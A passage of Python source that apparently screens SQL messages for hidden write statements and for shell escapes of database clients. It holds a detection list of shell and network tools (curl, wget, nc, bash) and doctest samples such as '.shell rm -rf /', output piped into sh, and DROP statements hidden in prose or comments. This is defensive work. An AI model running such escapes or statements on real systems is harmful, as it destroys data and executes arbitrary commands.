    "duckdb": (True, frozenset()),
    **dict.fromkeys(("postgres", "redshift", "materialize", "risingwave"), (False, SHELL_BACKSLASH_COMMANDS)),
    **{name: (False, frozenset({"!"})) for name in INTO_CLAUSE_DIALECTS},
    "": (True, SHELL_BACKSLASH_COMMANDS),
}
"""For each dialect, whether its command-line client takes dot-commands and which backslash
commands it takes (psql for the PostgreSQL wire protocol, the mysql client for the MySQL family);
SQL logged without a dialect may be fed to any of them."""
SHELL_PROGRAMS = frozenset(
    {"id", "whoami", "uname", "ls", "cat", "rm", "cp", "mv", "chmod", "curl", "wget", "nc", "ncat", "sh", "bash"}
    | {"python", "python3", "perl", "ruby", "php", "echo", "touch", "mkdir", "ping", "nslookup", "env", "kill"}
)
r"""Programs that make the words after a shell command a command line (``\! id``), not a word of a
sentence ("\!important", ".sh scripts call it")."""
_SHELL_SIGNS = frozenset("|;&><$`")
"""Characters of a shell command line (pipes, lists, redirections, substitutions)."""


def _runs_a_program(words: list[str]) -> bool:
    """Whether the words after a shell command read as a command line: a known program first, or
    a shell sign (``|``, ``;``, ``>``, ``$`` …) among them.

    >>> _runs_a_program(["curl", "-s", "x"]), _runs_a_program(["a", "|", "sh"]), _runs_a_program(["important:"])
    (True, True, False)
    """
    return bool(words) and (words[0] in SHELL_PROGRAMS or any(sign in _SHELL_SIGNS for sign in " ".join(words)))


def client_commands(part: str, dialect: str = "") -> list[str]:
    r"""Shell commands of the dialect's command-line client in a part of a message, which a
    harness that feeds the message to the client runs with the SQL (no SQL parser reads them):
    ``sqlite3``'s (and DuckDB's) ``.shell`` / ``.system`` at the start of a line with any
    argument, their prefixes (``.sh``, ``.sy``) with a command line; ``\!`` with a command line
    (``psql``, ``mysql``) and ``\gexec`` (``psql``) anywhere in a line (:data:`SHELL_DOT_COMMANDS`,
    :data:`SHELL_BACKSLASH_COMMANDS`); and output piped into a program, ``.output |sh`` /
    ``.once |sh`` at the start of a line and ``psql``'s ``\o |sh`` / ``\g |sh`` anywhere
    (:data:`PIPE_DOT_COMMANDS`, :data:`PIPE_BACKSLASH_COMMANDS`). A dialect gets its own client's commands, SQL logged
    without a dialect all of them. A tip that names a command ("\!important", ".sh scripts call
    it") runs nothing.

    Returns:
        Their kinds in order, as :func:`hidden_statements` gives them (``".shell (client
        command)"``).

    >>> client_commands(".shell rm -rf /\nSELECT 1;", "sqlite"), client_commands("Done. \\! id\nx \\gexec", "postgres")
    (['.shell (client command)'], ['\\! (client command)', '\\gexec (client command)'])
    >>> client_commands("\\!important: read this\n.sh scripts call it\n.output /tmp/x\n\\o /tmp/x\n\\i q.sql", "")
    []
    >>> client_commands(".output |sh", "sqlite"), client_commands("then \\o |sh and \\g '| bash'", "postgres")
    (['.output (client command)'], ['\\o (client command)', '\\g (client command)'])
    >>> client_commands(".shell ls", "postgres"), client_commands(".sy id\n.\"shell\" ls", "sqlite")
    ([], ['.system (client command)', '.shell (client command)'])
    """
    dot_commands, backslash_commands = _CLIENT_DIALECTS.get(dialect, (False, frozenset()))
    kinds: list[str] = []
    for line in part.splitlines():
        words = line.split()
        if not words:
            continue
        name = words[0][1:].strip("'\"") if words[0].startswith(".") and dot_commands else ""
        if name.isalpha():
            exact = name if name in SHELL_DOT_COMMANDS and len(words) > 1 else None
            prefix = next((c for c in sorted(SHELL_DOT_COMMANDS) if len(name) >= 2 and c.startswith(name)), None)
            command = exact or (prefix if _runs_a_program(words[1:]) else None)
            if command is not None:
                kinds.append(f".{command} {CLIENT_COMMAND}")
            elif name in PIPE_DOT_COMMANDS and len(words) > 1 and words[1].strip("'\"").startswith("|"):
                kinds.append(f".{name} {CLIENT_COMMAND}")  # .output |sh: the output piped into a program
        for position, word in enumerate(words):
            if word == "\\gexec" and "gexec" in backslash_commands:
                kinds.append(f"\\gexec {CLIENT_COMMAND}")
            elif (
                word.startswith("\\")
                and word[1:] in PIPE_BACKSLASH_COMMANDS
                and "gexec" in backslash_commands  # psql's
                and position + 1 < len(words)
                and words[position + 1].strip("'\"").startswith("|")
            ):
                kinds.append(f"{word} {CLIENT_COMMAND}")  # \o |sh, \g |sh: results piped into a program
            elif word.startswith("\\!") and "!" in backslash_commands:
                after = [word[2:], *words[position + 1 :]] if word[2:] else words[position + 1 :]
                if _runs_a_program(after):
                    kinds.append(f"\\! {CLIENT_COMMAND}")
    return kinds


def hidden_statements(parts: tuple[str, ...] | list[str], dialect: str, *, into_files: bool = False) -> list[str]:
    """Non-SELECT statements in the parts of a message that are not its SQL (prose, other code blocks).

    A message may carry a statement outside its code block (``DROP TABLE t;`` before the fence,
    after a line of prose, behind a comment or a list marker) that a harness which runs the
    message's SQL lines would run too. Each part is read with the dialect's tokenizer (so
    comments never hide a keyword and a keyword inside a string is no keyword); at every write
    keyword the text up to the next ``;`` is parsed, and a complete write statement is reported
    with its kind; one that does not parse is still reported when the words after the keyword
    make it a statement (``DROP TABLE``, ``DELETE FROM``, ``UPDATE … SET``, ``SET x = …``,
    ``CALL p(…)``, ``VACUUM;``), so text that no parser reads cannot hide it either; with
    ``into_files``, a query that names a file to write with ``INTO OUTFILE`` is reported too. So
    are the commands of the dialect's command-line client (:func:`client_commands`).

    Args:
        parts: :attr:`stef.pipeline.clean.MessageParts.discarded`, and the prose cut after the SQL.
        dialect: a resolved sqlglot dialect name.
        into_files: also report a query that writes a server file with MySQL's ``INTO OUTFILE`` /
            ``INTO DUMPFILE``, which sqlglot cannot parse (:func:`_into_file_writes`); ``False``
            (the default) leaves it to the caller.

    Returns:
        Statement kinds in order (``"DROP"``, ``"DELETE (inside the query)"`` ...); ``"UNCHECKED"``
        once more than :data:`MAX_HIDDEN_CANDIDATES` keywords were tried.

    >>> hidden_statements(["Run this first:\\nDROP TABLE schools;", "Hope it helps"], "sqlite")
    ['DROP']
    >>> hidden_statements(["1. /* tidy up */ DROP/**/TABLE schools; 2. VACUUM;"], "sqlite")
    ['DROP', 'VACUUM']
    >>> hidden_statements(["Drop the filter on year, then update the table."], "sqlite")
    []
    """
    words = (
        HIDDEN_START_WORDS
        | set(_write_words(dialect))
        | set(_NEXT_WORD_STATEMENTS)
        | _CALL_STATEMENTS
        | _ASSIGNMENT_STATEMENTS
        | _ALONE_STATEMENTS
    )
    kinds: list[str] = []
    tried = 0
    for part in parts:
        kinds.extend(client_commands(part, dialect))
        tokens = _tokens_of(part, dialect)
        index = 0
        while index < len(tokens):
            word, kind, begin, _ = tokens[index]
            if word not in words or "STRING" in kind:
                index += 1
                continue
            tried += 1
            if tried > MAX_HIDDEN_CANDIDATES:
                return [*kinds, "UNCHECKED"]
            stop = next((j for j in range(index + 1, len(tokens)) if tokens[j][0] == ";"), len(tokens))
            end = tokens[stop - 1][3] if stop > index else len(part)
            try:
                statements = parse_statements(part[begin:end], dialect)
            except (SqlglotError, RecursionError):
                statements = []
            loose = [s for s in statements if isinstance(s, _LOOSE_WRITE_TYPES)]
            found = (
                [] if loose and not _looks_like_statement(tokens, index, part) else _write_kinds(statements, dialect)
            )
            if (
                into_files
                and not statements
                and word in ("SELECT", "WITH")
                and any(tokens[j][0] == "INTO" and tokens[j + 1][0] in INTO_FILE_KINDS for j in range(index, stop - 1))
            ):
                found = _into_file_writes(part[begin:end], dialect)
            if not found and _looks_like_statement(tokens, index, part):
                found = [word]
            kinds.extend(found)
            index = stop if found else index + 1
    return kinds


def nested_comment_writes(text: str) -> list[str]:
    """Write statements of SQL logged without a dialect that sqlglot's generic dialect reads as a
    comment because its comments nest (as Postgres's do) while SQLite, MySQL, BigQuery, Snowflake
    or Oracle end the comment at the first ``*/``: ``SELECT 1 /* /* */ ; DROP TABLE t; -- */``
    runs the DROP there.

    Returns:
        The statement kinds found with SQLite's tokenizer beyond those found with the generic one,
        as :func:`hidden_statements` gives them.

    >>> nested_comment_writes("SELECT 1 /* /* */ ; DROP TABLE t; -- */"), nested_comment_writes("SELECT 1 /* a */ /* b */")
    (['DROP'], [])
    """
    remaining = Counter(hidden_statements([text], ""))
    extra: list[str] = []
    for kind in hidden_statements([text], "sqlite"):
        if remaining[kind]:
            remaining[kind] -= 1
        else:
            extra.append(kind)
    return extra


def executable_comment_writes(statements: tuple[exp.Expr, ...], dialect: str) -> list[str]:
    """Write statements inside MySQL/MariaDB executable comments (``/*! ... */``,
    ``/*!50001 ... */``, MariaDB's ``/*M! ... */``): those servers run the comment's text,
    sqlglot keeps it as a comment.

    Returns:
        Statement kinds, as :func:`hidden_statements`.

    >>> import sqlglot
    >>> executable_comment_writes(tuple(sqlglot.parse("SELECT 1 /*!50001 ; DROP TABLE t */", read="mysql")), "mysql")
    ['DROP']
    """
    kinds: list[str] = []
    for statement in statements:
        for node in statement.walk():
            for comment in node.comments or ():
                if not comment.startswith(("!", "M!")):
                    continue
                body = comment.split("!", 1)[1].lstrip("0123456789")
                try:
                    kinds.extend(_write_kinds(parse_statements(body, dialect), dialect))
                except (SqlglotError, RecursionError):
                    kinds.append("UNPARSED")
    return kinds
